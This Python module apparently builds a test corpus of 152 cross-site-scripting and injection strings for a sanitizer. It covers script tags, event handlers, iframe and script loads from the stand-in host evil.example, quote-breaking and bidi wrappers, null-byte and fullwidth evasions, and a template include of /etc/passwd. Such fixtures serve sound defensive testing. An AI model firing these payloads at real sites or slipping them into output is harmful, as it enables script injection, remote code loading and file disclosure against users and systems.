"""Texts that try to become code, to load something from elsewhere, or to break out."""

RUN = "window.ran=1"
AWAY = "//evil.example/x"
VECTORS = (
    "<script>{run}</script>",
    "<script src={away}></script>",
    "</title><script>{run}</script>",
    "</textarea><script>{run}</script>",
    "</style><script>{run}</script>",
    "<!--><script>{run}</script>",
    "<img src=x onerror={run}>",
    "<img src={away}>",
    "<svg onload={run}>",
    "<svg><script>{run}</script>",
    "<svg><animate onbegin={run} attributeName=x>",
    "<body onload={run}>",
    "<iframe src={away}>",
    "<iframe srcdoc='<script>parent.{run}</script>'>",
    "<object data={away}>",
    "<embed src={away}>",
    "<link rel=stylesheet href={away}>",
    "<link rel=prefetch href={away}>",
    "<base href={away}>",
    "<meta http-equiv=refresh content='0;url={away}'>",
    "<style>@import '{away}'</style>",
    "<div style=background:url({away})>",
    "<video src={away} autoplay>",
    "<audio src=x onerror={run}>",
    "<input autofocus onfocus={run}>",
    "<details open ontoggle={run}>",
    "<marquee onstart={run}>",
    "<a href=javascript:{run} id=x>x</a>",
    "<form action={away}><button>x</button></form>",
    "<math><mtext><script>{run}</script></mtext></math>",
    "<template><script>{run}</script></template>",
    "<noscript><p title='</noscript><script>{run}</script>'>",
    "<img src='x' onerror='{run}'>",
)
WRAPS = ("{vector}", '"{sep}>{vector}', "'{sep}>{vector}", "\u202e{vector}\u202c")
OTHERS = (
    "{{7*7}}",
    "{% include '/etc/passwd' %}",
    "${window.ran=1}",
    "' onmouseover='window.ran=1",
    '" autofocus onfocus="window.ran=1',
    "javascript:window.ran=1",
    "data:text/html,<script>1</script>",
    "&lt;script&gt;window.ran=1&lt;/script&gt;",
    "\x00<script>window.ran=1</script>",
    "<scr\x00ipt>window.ran=1</script>",
    "＜script＞window.ran=1＜/script＞",
    "<ſcript>window.ran=1</script>",
    "](javascript:window.ran=1)",
    "https://evil.example/x",
    "www.evil.example",
    "//evil.example/x",
    "HTTP://EVIL.EXAMPLE/x",
    "ht\u200btps://evil.example/x",
    "mailto:a@evil.example",
    "\u2028<script>",
)
PAYLOADS = tuple(
    wrap.replace("{sep}", "")
    .replace("{vector}", vector)
    .replace("{run}", RUN)
    .replace("{away}", AWAY)
    for vector in VECTORS
    for wrap in WRAPS
) + tuple(OTHERS)
"""152 texts."""
